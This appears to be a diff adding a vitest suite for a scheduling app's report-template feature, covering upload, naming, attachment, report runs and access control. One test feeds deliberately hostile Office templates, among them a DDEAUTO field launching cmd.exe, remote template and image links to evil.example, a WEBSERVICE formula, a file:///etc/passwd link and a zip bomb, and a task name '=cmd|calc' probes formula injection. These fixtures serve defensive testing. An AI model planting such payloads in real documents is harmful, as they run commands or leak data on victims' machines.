@@ -1,0 +1,328 @@
+import { spawnSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import {
+  accessGrant,
+  epsCreate,
+  exportFile,
+  jobList,
+  projectUpload,
+  type ReportForm,
+  reportAttach,
+  reportDelete,
+  reportDetach,
+  reportFile,
+  reportList,
+  reportListOfNode,
+  reportRename,
+  reportRun,
+  reportRuns,
+  type Upload,
+  uploadConfirm,
+  uploadRead,
+  versionReport,
+  versionReportMaster,
+} from '@plumbline/core/contract'
+import { writeXer } from '@plumbline/core/exchange'
+import { masters } from '@plumbline/core/reports'
+import { generatePlan } from '@plumbline/core/testing'
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { type Installation, install } from '../../../../test/installation.ts'
+import { admit, breakGround, eventually, type Site } from '../../../../test/planning.ts'
+import { addTemplate, documentOf, workbookOf } from '../../../../test/templates.ts'
+import type { Visitor } from '../../../../test/visitor.ts'
+import { readTableFile } from '../tables/index.ts'
+
+let site: Installation
+let maya: Visitor
+let rita: Visitor
+let ground: Site
+let versionId = ''
+let scheduleId = ''
+beforeAll(async () => {
+  site = await install({ collab: true })
+  maya = await site.person('maya')
+  rita = await site.person('rita')
+  ground = await breakGround(maya)
+  await admit(site, ground.spaceId, rita, 'reader')
+  const plan = generatePlan({ seed: 5, works: 60 })
+  const works = plan.rows.filter(({ type }) => type === 'work')
+  if (works[0]) works[0].name = 'Бетонирование <A&B>'
+  if (works[1]) works[1].name = '=cmd|calc'
+  const { body } = await maya.upload(projectUpload, { projectId: ground.projectId }, writeXer(plan))
+  const settled = (upload: Upload): Promise<Upload> =>
+    eventually(async () => {
+      const { upload: now } = await maya.ok(uploadRead, { params: { uploadId: upload.id } })
+      return now.state !== 'uploading' && now
+    }, 120)
+  const ready = await settled(body.upload)
+  const { upload } = await maya.ok(uploadConfirm, { params: { uploadId: ready.id }, input: {} })
+  versionId = upload.versionId ?? ''
+  scheduleId = upload.scheduleId ?? ''
+}, 150_000)
+afterAll(() => site.close())
+
+const add = async (name: string, file: Uint8Array<ArrayBuffer>, epsId?: string): Promise<ReportForm> => {
+  const reply = await addTemplate(maya, { spaceId: ground.spaceId, name, ...(epsId && { epsId }) }, file)
+  expect(reply.body.error).toBeUndefined()
+  return reply.body.report
+}
+const namesAt = async (who: Visitor, epsId: string) => {
+  const { reports } = await who.ok(reportListOfNode, { params: { epsId }, input: {} })
+  return reports.filter(({ isMaster }) => !isMaster).map(({ name, from }) => [name, from?.name])
+}
+const ended = (who: Visitor, jobId: string) =>
+  eventually(async () => {
+    const { jobs } = await who.ok(jobList, {})
+    const job = jobs.find(({ id }) => id === jobId)
+    return job && job.state !== 'running' && job
+  }, 60)
+async function fileOf(who: Visitor, jobId: string): Promise<Buffer> {
+  expect(await ended(who, jobId)).toMatchObject({ kind: 'report', state: 'done', error: null })
+  const { body } = await who.call(exportFile, { params: { jobId } })
+  return Buffer.from(body as unknown as Uint8Array)
+}
+const textOf = (docx: Buffer): string =>
+  strFromU8(unzipSync(docx)['word/document.xml']!)
+    .replace(/<\/w:p>/g, '\n')
+    .replace(/<[^>]*>/g, '')
+
+describe('forms of reports', () => {
+  test('R-REP-02 R-REP-12 R-EPS-01.report_form a form is a template with a name, tried and kept, and handed out as it came', async () => {
+    const file = documentOf(['{project}: {#works where critical}{name}{/}'])
+    const reply = await addTemplate(maya, { spaceId: ground.spaceId }, file, 'Site report.docx')
+    expect(reply.body.report).toMatchObject({
+      ...{ name: 'Site report', kind: 'docx', isMaster: false, places: [], editable: true, bytes: file.length },
+      author: { id: maya.id },
+    })
+    const { body } = await rita.call(reportFile, {
+      params: { reportId: reply.body.report.id },
+      input: { spaceId: ground.spaceId },
+    })
+    expect(Buffer.from(body as unknown as Uint8Array).equals(Buffer.from(file))).toBe(true)
+    const twice = await addTemplate(maya, { spaceId: ground.spaceId, name: 'SITE report' }, file)
+    expect([twice.status, twice.body.error]).toEqual([409, 'REPORT_EXISTS'])
+    expect((await addTemplate(rita, { spaceId: ground.spaceId }, file)).body.error).toBe('FORBIDDEN')
+  })
+
+  test('R-REP-01 all forms of a space are listed, and at a node those that are attached to it or above', async () => {
+    const { node } = await maya.ok(epsCreate, {
+      params: { spaceId: ground.spaceId },
+      input: { kind: 'project', parentId: ground.facilityId, name: 'Elsewhere' },
+    })
+    await add('Of the project', documentOf(['x']), ground.projectId)
+    await add('Of the schedule', workbookOf([['x']]), scheduleId)
+    const { reports } = await rita.ok(reportList, { input: { spaceId: ground.spaceId, language: 'ru' } })
+    expect(reports.filter(({ isMaster }) => isMaster).map(({ name }) => name)).toEqual(
+      masters.map(({ title }) => title.ru),
+    )
+    expect(reports.filter(({ isMaster }) => !isMaster).map(({ name }) => name)).toEqual(
+      expect.arrayContaining(['Of the project', 'Of the schedule']),
+    )
+    expect(await namesAt(rita, scheduleId)).toEqual([
+      ['Of the project', 'A project'],
+      ['Of the schedule', expect.any(String)],
+    ])
+    expect(await namesAt(rita, ground.projectId)).toEqual([['Of the project', 'A project']])
+    expect(await namesAt(rita, node.id)).toEqual([])
+  })
+
+  test('R-REP-04 a form gets another name, and is attached to nodes', async () => {
+    const { id } = await add('First name', documentOf(['x']))
+    const rename = (who: Visitor, name: string) => who.call(reportRename, { params: { reportId: id }, input: { name } })
+    expect((await rename(maya, 'Of the project')).body.error).toBe('REPORT_EXISTS')
+    expect((await rename(rita, 'Mine')).body.error).toBe('FORBIDDEN')
+    expect((await rename(maya, 'Second name')).body.report).toMatchObject({ name: 'Second name' })
+    const at = { reportId: id, epsId: ground.facilityId }
+    await maya.ok(reportAttach, { params: at, input: {} })
+    const { report } = await maya.ok(reportAttach, { params: at, input: {} })
+    expect(report.places).toEqual([{ id: ground.facilityId, name: 'A facility' }])
+    expect(await namesAt(rita, scheduleId)).toContainEqual(['Second name', 'A facility'])
+  })
+
+  test('R-REP-05 R-REP-03 a form is taken off a node, and deleted with all its places', async () => {
+    const { id } = await add('Short', documentOf(['x']), ground.facilityId)
+    expect(await namesAt(rita, ground.projectId)).toContainEqual(['Short', 'A facility'])
+    await maya.ok(reportDetach, { params: { reportId: id, epsId: ground.facilityId } })
+    expect(await namesAt(rita, ground.projectId)).not.toContainEqual(['Short', 'A facility'])
+    expect((await rita.call(reportDelete, { params: { reportId: id } })).body.error).toBe('FORBIDDEN')
+    await maya.ok(reportDelete, { params: { reportId: id } })
+    expect((await maya.call(reportDelete, { params: { reportId: id } })).body.error).toBe('NOT_FOUND')
+  })
+
+  test('what is wrong with a template is told with its place, and nothing is kept', async () => {
+    const wrong = async (file: Uint8Array<ArrayBuffer>) => {
+      const { status, body } = await addTemplate(maya, { spaceId: ground.spaceId, name: 'Wrong' }, file)
+      return [status, body.error, body.params?.mark, body.params?.place]
+    }
+    const split = '<w:p><w:r><w:t>Split {pro</w:t></w:r><w:r><w:t>jekt}</w:t></w:r></w:p>'
+    expect(await wrong(documentOf(['Fine', 'Then {projekt} here']))).toEqual([
+      ...[422, 'REPORT_MARK_UNKNOWN', 'projekt', 'document ¶2'],
+    ])
+    expect((await wrong(documentOf([split]))).slice(0, 3)).toEqual([422, 'REPORT_MARK_UNKNOWN', 'projekt'])
+    expect((await wrong(documentOf(['{#works}{name}']))).slice(0, 2)).toEqual([422, 'REPORT_MARK_ALONE'])
+    expect((await wrong(documentOf(['{name +}']))).slice(0, 2)).toEqual([422, 'REPORT_MARK_WRONG'])
+    expect(await wrong(workbookOf([['a'], ['b', '{#works}{nam}{/}']]))).toEqual([
+      ...[422, 'REPORT_MARK_UNKNOWN', 'nam', 'Critical works!B2'],
+    ])
+    const { reports } = await maya.ok(reportList, { input: { spaceId: ground.spaceId } })
+    expect(reports.some(({ name }) => name === 'Wrong')).toBe(false)
+  })
+
+  test('hostile templates are refused: code, ways out of the file, bombs, broken files', async () => {
+    const withPart = (path: string, text: string) => (file: Uint8Array) =>
+      new Uint8Array(zipSync({ ...unzipSync(file), [path]: strToU8(text) }))
+    const [document, book] = [documentOf(['x']), workbookOf([['x']])]
+    const relation = (type: string, target: string) =>
+      `<Relationships xmlns="r"><Relationship Id="rId9" Type="http://o/${type}" Target="${target}" TargetMode="External"/></Relationships>`
+    const field = (code: string) => `<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`
+    const bomb = new Uint8Array(zipSync({ ...unzipSync(document), 'word/media/a.xml': new Uint8Array(30_000_000) }))
+    const hostile: Record<string, [Uint8Array<ArrayBuffer>, string]> = {
+      macros: [withPart('word/vbaProject.bin', 'x')(document), 'REPORT_UNSAFE'],
+      'macros of a type': [
+        documentOf(['x'], (parts) =>
+          parts.map(({ path, text }) => ({
+            path,
+            text: text.replace('wordprocessingml.document.main', 'document.macroEnabled.main'),
+          })),
+        ),
+        'REPORT_UNSAFE',
+      ],
+      'a foreign template': [
+        withPart('word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example/t.dotm'))(document),
+        'REPORT_UNSAFE',
+      ],
+      'a foreign picture': [
+        withPart('word/_rels/a.rels', relation('image', 'http://evil.example/p.png'))(document),
+        'REPORT_UNSAFE',
+      ],
+      'a link into the machine': [
+        withPart('word/_rels/a.rels', relation('hyperlink', 'file:///etc/passwd'))(document),
+        'REPORT_UNSAFE',
+      ],
+      'a field that runs': [documentOf([field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe')]), 'REPORT_UNSAFE'],
+      'a field in pieces': [
+        documentOf([
+          '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://e</w:instrText></w:r></w:p>',
+        ]),
+        'REPORT_UNSAFE',
+      ],
+      'a formula that fetches': [workbookOf([['=WEBSERVICE("http://evil.example")']]), 'REPORT_UNSAFE'],
+      'a formula of another file': [workbookOf([['=[1]Sheet1!A1']]), 'REPORT_UNSAFE'],
+      'another file': [withPart('xl/externalLinks/externalLink1.xml', '<a/>')(book), 'REPORT_UNSAFE'],
+      'a bomb': [bomb, 'REPORT_TOO_LARGE'],
+      'entities that grow': [
+        withPart('word/document.xml', '<!DOCTYPE a [<!ENTITY b "cc">]><w:document>&b;</w:document>')(document),
+        'REPORT_NO_TEMPLATE',
+      ],
+      'no archive': [new Uint8Array(Buffer.from('PK not an archive')), 'REPORT_NO_TEMPLATE'],
+      'another archive': [new Uint8Array(zipSync({ 'a.txt': strToU8('x') })), 'REPORT_NO_TEMPLATE'],
+      'half of one': [new Uint8Array(document.slice(0, document.length / 2)), 'REPORT_NO_TEMPLATE'],
+      'a loop in a loop in a loop': [
+        workbookOf([['{#works}', '{#works}', '{#works}', '{#works}', '{name}', '{/}', '{/}', '{/}', '{/}']]),
+        '',
+      ],
+    }
+    for (const [what, [file, code]] of Object.entries(hostile)) {
+      const { status, body } = await addTemplate(maya, { spaceId: ground.spaceId, name: what }, file)
+      expect([what, body.error ?? ''], what).toEqual([what, code])
+      expect(status, what).toBe(code === '' ? 200 : 422)
+    }
+  })
+})
+
+describe('reports', () => {
+  const run = (who: Visitor, reportId: string, format: 'docx' | 'xlsx', epsId: string | null, input: object = {}) =>
+    who.call(reportRun, { params: { reportId, as: format }, input: { spaceId: ground.spaceId, epsId, ...input } })
+
+  test('R-REP-04 R-REP-06 a report of a node is written by a job, with what was chosen, and fetched', async () => {
+    const form = await add(
+      'Chosen',
+      documentOf([
+        '{place} {year} {period.start}–{period.finish} {schedule}',
+        '{#rows}',
+        '{name};',
+        '{/}',
+        '{#works}W{/}',
+      ]),
+    )
+    const period = { start: '2026-02-01 00:00:00', finish: '2026-02-28 23:59:59' }
+    const { body } = await run(rita, form.id, 'docx', scheduleId, { year: 2031, rows: 'summaries', level: 1, period })
+    const text = textOf(await fileOf(rita, body.jobId))
+    expect(text).toContain('A facility / A project / ')
+    expect(text).toContain('2031 01.02.2026–28.02.2026')
+    expect(text.match(/;/g)!.length).toBeLessThan(10)
+    expect(text).toMatch(/W{60}/)
+    expect((await run(rita, form.id, 'xlsx', scheduleId)).body.error).toBe('REPORT_OTHER_FORMAT')
+    const { runs } = await rita.ok(reportRuns, { input: { spaceId: ground.spaceId } })
+    expect(runs[0]).toMatchObject({ reportId: form.id, name: 'Chosen', kind: 'docx', state: 'done', hasFile: true })
+    expect((await maya.ok(reportRuns, { input: { spaceId: ground.spaceId } })).runs).toEqual([])
+    expect((await maya.call(exportFile, { params: { jobId: body.jobId } })).body.error).toBe('NOT_FOUND')
+  })
+
+  test('R-SCH-14 a version is reported by a form of a client and by one of ours, the works that are shown alone', async () => {
+    const form = await add(
+      'Book',
+      workbookOf([['{schedule}'], ['{#works}{name}', '{start}', '{percent}{/}'], ['=COUNTA(A2:A2)']]),
+    )
+    const { jobId } = await rita.ok(versionReport, { params: { versionId, reportId: form.id }, input: {} })
+    const [sheet] = (await readTableFile(await fileOf(rita, jobId))).sheets
+    const rows = sheet!.rows.map(({ cells }) => cells)
+    expect(rows).toHaveLength(61)
+    const named = rows.find(([name]) => name === 'Бетонирование <A&B>')
+    expect(named?.[1]).toMatchObject({ day: expect.any(Number) })
+    // What people typed is a text, whatever it begins with.
+    expect(rows.some(([name]) => name === '=cmd|calc')).toBe(true)
+
+    for (const master of masters) {
+      const params = { versionId, masterId: master.id }
+      const { jobId } = await rita.ok(versionReportMaster, { params, input: { language: 'ru' } })
+      const file = await fileOf(rita, jobId)
+      expect(Object.keys(unzipSync(file))).toContain(master.kind === 'docx' ? 'word/document.xml' : 'xl/workbook.xml')
+      const all = Object.values(unzipSync(file))
+        .map((part) => strFromU8(part))
+        .join('')
+      expect(all, master.id).toContain(master.title.ru)
+      expect(all.replace(/<[^>]*>/g, ''), master.id).not.toMatch(/\{[#/\w]/)
+    }
+    const unknown = await rita.call(versionReportMaster, { params: { versionId, masterId: 'report_other' }, input: {} })
+    expect(unknown.body.error).toBe('NOT_FOUND')
+  }, 120_000)
+
+  test('a report shows nothing that its reader may not see', async () => {
+    const form = await add('All', documentOf(['{#schedules}[{name}]{/} {#works}x{/}']))
+    const { body: before } = await run(rita, form.id, 'docx', null)
+    expect(textOf(await fileOf(rita, before.jobId))).toMatch(/x{60}/)
+    await maya.ok(accessGrant, {
+      params: { spaceId: ground.spaceId },
+      input: { onNode: scheduleId, userId: rita.id, effect: 'deny', abilities: ['schedule.read', 'eps.read'] },
+    })
+    const { body } = await run(rita, form.id, 'docx', null)
+    expect(textOf(await fileOf(rita, body.jobId))).not.toContain('x')
+    const refused = await rita.call(versionReport, { params: { versionId, reportId: form.id }, input: {} })
+    expect(refused.body.error).toBe('FORBIDDEN')
+    const stranger = await site.person('stranger')
+    expect((await run(stranger, form.id, 'docx', null)).body.error).toBe('NOT_FOUND')
+  })
+
+  const hasOffice = process.env.SLOW !== undefined && spawnSync('soffice', ['--version']).error === undefined
+  test.runIf(hasOffice)(
+    'LibreOffice opens what is written',
+    async () => {
+      const folder = mkdtempSync(join(tmpdir(), 'report-'))
+      for (const { id, kind } of masters) {
+        const { jobId } = await maya.ok(versionReportMaster, { params: { versionId, masterId: id }, input: {} })
+        writeFileSync(join(folder, `${id}.${kind}`), await fileOf(maya, jobId))
+        spawnSync('soffice', ['--headless', '--convert-to', 'pdf', '--outdir', folder, join(folder, `${id}.${kind}`)])
+        expect(
+          readFileSync(join(folder, `${id}.pdf`))
+            .subarray(0, 5)
+            .toString(),
+        ).toBe('%PDF-')
+      }
+    },
+    300_000,
+  )
+})
